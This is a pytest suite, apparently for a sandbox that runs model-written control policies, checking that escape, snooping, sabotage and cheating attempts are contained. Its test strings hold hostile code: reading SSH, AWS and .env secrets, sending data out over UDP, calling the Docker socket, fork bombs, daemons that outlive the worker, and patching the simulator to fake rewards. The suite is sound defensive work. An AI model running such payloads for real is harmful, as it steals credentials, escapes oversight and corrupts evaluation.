"""Policies a model could write to escape, snoop, sabotage or cheat — run on both sandbox backends.

Every case goes through the ``attack`` fixture (see conftest.py), which also checks what all
cases share: the run went on to its target, nothing outside the run folder changed, no secret
reached the run folder, nothing of the sandbox was left behind, and the next candidate started
with an empty scratch space. Each case then checks its own outcome and effect.
"""

from __future__ import annotations

import socket
import textwrap
from pathlib import Path

import numpy
import pytest

from conftest import IN_CI, ROOT

BLOCKED_OR_ABSENT = {"blocked", "crashed"}  # a host file is either forbidden or simply not there


def code(text: str) -> str:
    return textwrap.dedent(text).strip() + "\n"


# -- exhausting time ------------------------------------------------------------------------

def test_01_busy_loop_in_act(attack):
    assert attack(code("def act(obs):\n    while True:\n        pass")).outcome == "timeout"


def test_02_sleep_longer_than_the_act_timeout(attack):
    assert attack(code("import time\ndef act(obs):\n    time.sleep(60)\n    return 0")).outcome == "timeout"


def test_03_sigterm_ignored_then_sleep(attack):
    result = attack(code("""
        import signal, time
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        def act(obs):
            time.sleep(60)
            return 0
    """))
    assert result.outcome == "timeout"


def test_04_infinite_loop_at_import(attack):
    result = attack(code("while True:\n    pass\ndef act(obs):\n    return 0"))
    # The load's 5 s of wall time and the worker's 5 CPU-seconds run out together: a warm worker (started in the
    # background) spends the whole window looping, so either limit may be the one that stops it.
    assert result.outcome in {"timeout", "cpu_limit"} and "loading the code" in result.first["error"]


# -- exhausting processes and memory --------------------------------------------------------

def test_05_fork_bomb(attack, backend):
    from promptpo.isolation import cgroup

    if backend == "process" and cgroup.problem():
        reason = f"without a pids cgroup a fork bomb would reach the host: {cgroup.problem()}"
        pytest.fail(reason) if IN_CI else pytest.skip(reason)
    result = attack(code("""
        import os
        def act(obs):
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    """))
    assert result.outcome in {"timeout", "crashed"}


def test_06_subprocess_spawn(attack):
    marker = ROOT / "pwned-by-subprocess"
    result = attack(code(f"""
        import subprocess
        out = subprocess.run(["/bin/sh", "-c", "echo pwned > {marker}; id; echo done"], capture_output=True, text=True)
        print("SUBPROCESS", out.returncode, out.stdout, out.stderr)
        def act(obs):
            return 0
    """))
    assert result.outcome in {"ok", "crashed", "blocked"}
    assert not marker.exists()


def test_07_daemonized_grandchild_outlives_the_worker(attack, tmp_path, host_listener):
    host_listener.settimeout(0.5)
    port = host_listener.getsockname()[1]
    result = attack(code(f"""
        import os, socket, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(3)
                try:
                    socket.create_connection(("127.0.0.1", {port}), timeout=1)
                except OSError:
                    pass
                open("/tmp/daemon-was-here", "w").write("x")
                time.sleep(600)
            os._exit(0)
        def act(obs):
            return 0
    """))
    assert result.outcome == "ok"
    import time

    time.sleep(3.5)  # long after the daemon would have woken up
    with pytest.raises(TimeoutError):
        host_listener.accept()


def test_08_memory_bomb_bytearray(attack):
    result = attack(code("def act(obs):\n    hoard = bytearray(8 * 1024 ** 3)\n    return 0"))
    assert result.outcome == "memory"


def test_09_memory_bomb_numpy_growing(attack):
    result = attack(code("""
        import numpy as np
        hoard = []
        def act(obs):
            while True:
                hoard.append(np.ones(16 * 1024 * 1024))
    """), act_timeout_s=20.0, candidate_wall_s=60.0)  # filling 512 MB takes ~1 s on a busy machine: time is not the limit under test
    assert result.outcome == "memory"


def test_10_shared_memory_bomb(attack):
    result = attack(code("""
        import os
        def act(obs):
            for i in range(100000):
                with open(f"/dev/shm/bomb{i}", "wb") as f:
                    f.write(b"x" * (1 << 20))
    """))
    assert result.outcome in {"crashed", "blocked"}
    assert "No space left" in result.first["error"] or "File too large" in result.first["error"] \
        or "Read-only" in result.first["error"] or "Permission" in result.first["error"]


def test_11_output_flood(attack):
    result = attack(code("def act(obs):\n    while True:\n        print('x' * 65536)"))
    assert result.outcome == "output_limit"
    assert len(result.output) <= 64 * 1024


def test_12_huge_file_in_scratch(attack):
    result = attack(code("""
        def act(obs):
            with open("/tmp/huge", "wb") as f:
                for _ in range(4096):
                    f.write(b"x" * (1 << 20))
    """))
    assert result.outcome in {"crashed", "blocked"}
    assert "File too large" in result.first["error"] or "No space left" in result.first["error"]


# -- writing where it must not --------------------------------------------------------------

SITE_PACKAGES = Path(numpy.__file__).parent.parent


@pytest.mark.parametrize("target", ["/pwned", "/usr/pwned", str(SITE_PACKAGES / "pwned.pth"), str(ROOT / "pwned.py"),
                                    "RUNS/pwned.txt"], ids=["root", "usr", "site-packages", "repo", "run-folder"])
def test_13_write_outside_scratch(attack, target, tmp_path):
    target = target.replace("RUNS", str(tmp_path / "project" / "runs"))
    result = attack(code(f"""
        with open({target!r}, "w") as f:
            f.write("pwned")
        def act(obs):
            return 0
    """))
    assert result.outcome in BLOCKED_OR_ABSENT
    assert not Path(target).exists()


# -- reading what it must not ---------------------------------------------------------------

@pytest.mark.parametrize("target", ["/etc/shadow", "HOME/.ssh/id_rsa", "HOME/.aws/credentials", "PROJECT/.env"],
                         ids=["shadow", "ssh", "aws", "dotenv"])
def test_14_read_host_secrets(attack, target, tmp_path):
    target = target.replace("HOME", str(tmp_path / "home")).replace("PROJECT", str(tmp_path / "project"))
    result = attack(code(f"""
        print("LEAK", open({target!r}).read())
        def act(obs):
            return 0
    """))
    assert result.outcome in BLOCKED_OR_ABSENT
    assert "LEAK" not in result.output


def test_15_api_keys_from_the_environment(attack):
    result = attack(code("""
        import os
        print("ENV", dict(os.environ))
        def act(obs):
            return 0
    """))
    assert result.outcome == "ok"
    assert "ENV" in result.output and "OPENAI_API_KEY" not in result.output and "ANTHROPIC_API_KEY" not in result.output


def test_16_environ_of_other_processes(attack):
    import os

    result = attack(code(f"""
        for path in ("/proc/1/environ", "/proc/{os.getpid()}/environ", "/proc/{os.getppid()}/environ"):
            try:
                print(path, open(path, "rb").read())
            except OSError as err:
                print(path, "denied", err)
        def act(obs):
            return 0
    """))
    assert result.outcome == "ok"
    assert "OPENAI_API_KEY" not in result.output


# -- reaching the network and host sockets --------------------------------------------------

def test_17_tcp_to_the_outside(attack):
    result = attack(code("""
        import socket
        socket.create_connection(("1.1.1.1", 80), timeout=2)
        def act(obs):
            return 0
    """))
    assert result.outcome == "blocked"


def test_18_tcp_to_a_host_server(attack, host_listener):
    port = host_listener.getsockname()[1]
    result = attack(code(f"""
        import socket
        socket.create_connection(("127.0.0.1", {port}), timeout=2)
        def act(obs):
            return 0
    """))
    assert result.outcome in {"blocked", "timeout"}
    with pytest.raises(TimeoutError):
        host_listener.accept()


def test_19_dns_lookup(attack):
    result = attack(code("""
        import socket
        print(socket.getaddrinfo("example.com", 443))
        def act(obs):
            return 0
    """))
    assert result.outcome == "blocked"


def test_20_udp_to_a_host_listener(attack):
    receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    receiver.bind(("127.0.0.1", 0))
    receiver.settimeout(0.5)
    port = receiver.getsockname()[1]
    result = attack(code(f"""
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for _ in range(10):
            try:
                s.sendto(b"exfiltrated", ("127.0.0.1", {port}))
            except OSError:
                pass
        s.sendto(b"exfiltrated", ("8.8.8.8", 53))
        def act(obs):
            return 0
    """))
    assert result.outcome == "blocked"
    with pytest.raises(TimeoutError):
        receiver.recvfrom(64)
    receiver.close()


@pytest.mark.parametrize("path", ["/var/run/docker.sock", "HOSTSOCK"], ids=["docker-sock", "host-unix-socket"])
def test_21_host_unix_sockets(attack, path, tmp_path):
    server = socket.socket(socket.AF_UNIX)
    host_socket = str(tmp_path / "host.sock")
    server.bind(host_socket)
    server.listen(1)
    server.settimeout(0.2)
    path = path.replace("HOSTSOCK", host_socket)
    result = attack(code(f"""
        import socket
        s = socket.socket(socket.AF_UNIX)
        s.connect({path!r})
        s.sendall(b"GET /containers/json HTTP/1.0\\r\\n\\r\\n")
        print("DOCKER", s.recv(1000))
        def act(obs):
            return 0
    """))
    assert result.outcome in BLOCKED_OR_ABSENT
    assert "DOCKER" not in result.output
    with pytest.raises(TimeoutError):
        server.accept()
    server.close()


# -- attacking processes and itself ---------------------------------------------------------

def test_22_kill_parent_and_pid_1(attack):
    import os

    host_pid = os.getpid()
    result = attack(code(f"""
        import os, signal
        def act(obs):
            for pid in ({host_pid}, 1, os.getppid()):
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError as err:
                    print("kill", pid, err)
            return 0
    """))
    assert result.outcome in {"ok", "crashed"}  # the host test process is, evidently, still alive


@pytest.mark.parametrize("exit_call", ["sys.exit(3)", "os._exit(3)"])
def test_23_exit_inside_act(attack, exit_call):
    result = attack(code(f"import os, sys\ndef act(obs):\n    {exit_call}"))
    assert result.outcome == "crashed"


def test_24_segfault_via_ctypes(attack):
    result = attack(code("import ctypes\ndef act(obs):\n    ctypes.string_at(0)\n    return 0"))
    assert result.outcome in {"crashed", "blocked"}
    assert "SIGSEGV" in result.first["error"] or "ImportError" in result.first["error"] \
        or "ModuleNotFoundError" in result.first["error"]


def test_25_deep_recursion(attack):
    result = attack(code("""
        import sys
        sys.setrecursionlimit(10 ** 7)
        def dive(n):
            return dive(n + 1) + 1
        def act(obs):
            return dive(0)
    """))
    assert result.outcome in {"crashed", "memory", "timeout"}


def test_26_threads_left_running(attack):
    result = attack(code("""
        import threading, time
        def spin():
            while True:
                time.sleep(0.001)
        class Policy:
            def act(self, obs):
                if not getattr(Policy, "started", False):
                    Policy.started = True
                    for _ in range(4):
                        threading.Thread(target=spin, daemon=False).start()
                return 0
    """))
    assert result.outcome == "ok"


# -- lying to the host ----------------------------------------------------------------------

@pytest.mark.parametrize("value", ["float('nan')", "float('inf')", "np.zeros(10 ** 6)", "[0, 1, 0]", "'left'",
                                   "object()"], ids=["nan", "inf", "huge", "wrong-shape", "string", "object"])
def test_27_bad_actions(attack, value):
    result = attack(code(f"import numpy as np\ndef act(obs):\n    return {value}"))
    assert result.outcome == "invalid_action"


def test_28_garbage_on_the_protocol_stream(attack):
    result = attack(code("""
        import os
        def act(obs):
            for fd in range(3, 32):
                try:
                    os.write(fd, os.urandom(4096))
                except OSError:
                    pass
            return 0
    """))
    assert result.outcome in {"protocol_error", "crashed", "timeout"}


def test_29_giant_length_prefix(attack):
    result = attack(code("""
        import os, struct
        def act(obs):
            for fd in range(3, 32):
                try:
                    os.write(fd, struct.pack("!II", 2 ** 31, 2 ** 31))
                except OSError:
                    pass
            import time
            time.sleep(5)
            return 0
    """))
    assert result.outcome in {"protocol_error", "timeout"}


def test_30_symlink_to_host_files(attack, tmp_path):
    result = attack(code(f"""
        import os
        os.symlink({str(tmp_path / "home" / ".ssh" / "id_rsa")!r}, "/tmp/key")
        os.symlink({str(tmp_path / "project" / "runs")!r}, "/tmp/runs")
        print("LEAK", open("/tmp/key").read())
        def act(obs):
            return 0
    """))
    assert result.outcome in BLOCKED_OR_ABSENT and "LEAK" not in result.output


def test_31_planting_sitecustomize_for_the_next_candidate(attack):
    result = attack(code("""
        import os
        for path in ("/tmp/sitecustomize.py", "/tmp/usercustomize.py"):
            open(path, "w").write("print('PWNED')")
        open("/tmp/evil.pth", "w").write("import os; print('PWNED')")
        with open("/sandbox/lib/numpy/evil.pth", "w") as f:
            f.write("import os")
        def act(obs):
            return 0
    """))
    assert result.outcome == "blocked"
    assert "PWNED" not in (result.second["evaluation"]["output"] or "")


def test_32_import_the_simulator_to_fake_rewards(attack):
    result = attack(code("""
        try:
            import gymnasium.envs.classic_control.cartpole as cp
            cp.CartPoleEnv.step = lambda self, a: (self.state, 1000.0, False, False, {})
            print("PATCHED")
        except ImportError as err:
            print("no simulator here:", err)
        for name in ("mujoco", "metaworld", "promptpo"):
            try:
                __import__(name)
                print("IMPORTED", name)
            except ImportError:
                pass
        def act(obs):
            return 0
    """))
    assert result.outcome == "ok" and "PATCHED" not in result.output and "IMPORTED" not in result.output
    episode = result.first["evaluation"]["episodes"][0]
    assert episode["episode_return"] == episode["length"] < 50  # honest CartPole reward: 1 per step


def test_33_leaving_files_for_the_next_candidate(attack):
    result = attack(code("""
        import os
        os.makedirs("/tmp/cache", exist_ok=True)
        open("/tmp/cache/notes.txt", "w").write("previous candidate was here")
        open("/dev/shm/notes", "w").write("previous candidate was here")
        def act(obs):
            return 0
    """))
    assert result.outcome == "ok"  # the next candidate's empty /tmp is checked by the harness


def test_34_cpu_burn_across_many_threads(attack):
    result = attack(code("""
        import threading
        def burn():
            while True:
                pass
        for _ in range(8):
            threading.Thread(target=burn, daemon=True).start()
        def act(obs):
            while True:
                pass
    """), candidate_cpu_s=2, act_timeout_s=20.0)
    assert result.outcome in {"cpu_limit", "timeout"}


# -- the frame channel (Docker: a unix socket of its own in a read-only, unlisted bind mount) --------------

def test_35_connecting_to_the_frame_socket_again(attack):
    result = attack(code("""
        import os, socket
        args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
        mine = [a.decode() for a in args if a.endswith(b".sock")]
        try:
            print("LISTED", os.listdir("/sandbox/ipc"))
        except OSError as err:
            print("NOT LISTED", type(err).__name__)
        for path in mine + ["/sandbox/ipc/x.sock"]:
            s = socket.socket(socket.AF_UNIX)
            try:
                s.connect(path)
                print("CONNECTED", path)
            except OSError as err:
                print("REFUSED", path, type(err).__name__)
        def act(obs):
            return 0
    """))
    assert result.outcome == "ok"
    assert "CONNECTED" not in result.output and "LISTED [" not in result.output


def test_36_holding_the_frame_channel_open_after_the_worker(attack):
    result = attack(code("""
        import os, time
        if os.fork() == 0:
            os.setsid()
            time.sleep(1.0)
            for fd in range(3, 32):
                try:
                    os.write(fd, b"\\x00\\x00\\x10\\x00" * 1024)
                except OSError:
                    pass
            time.sleep(600)
        def act(obs):
            return 0
    """))
    assert result.outcome == "ok"  # the fixture checks the next candidate ran cleanly and nothing is left


def test_37_huge_frame_sizes_and_a_reply_before_the_request(attack):
    result = attack(code("""
        import os, struct
        for fd in range(3, 32):  # at load time: a reply the host never asked for, claiming 4 GiB
            try:
                os.write(fd, struct.pack("!II", 2 ** 32 - 1, 2 ** 32 - 1))
            except OSError:
                pass
        def act(obs):
            return 0
    """))
    assert result.outcome in {"protocol_error", "timeout", "crashed"}


def test_38_a_forged_reply_under_a_header_the_host_remembers(attack):
    """The host parses a repeated reply header once (wire.Memo); a reply that reuses the exact bytes of the honest
    act reply's header with a payload too short for it is still a protocol error, checked frame by frame."""
    result = attack(code("""
        import json, os, struct
        calls = [0]
        HEADER = json.dumps({"ok": True, "arrays": [{"name": "action", "dtype": "float64", "shape": [1]}]},
                            separators=(",", ":")).encode()
        def act(obs):
            calls[0] += 1
            if calls[0] == 3:  # the host has parsed this header twice by now
                for fd in range(3, 32):
                    try:
                        os.write(fd, struct.pack("!II", len(HEADER), 4) + HEADER + b"\\0" * 4)
                    except OSError:
                        pass
            return 0
    """))
    assert result.outcome == "protocol_error"
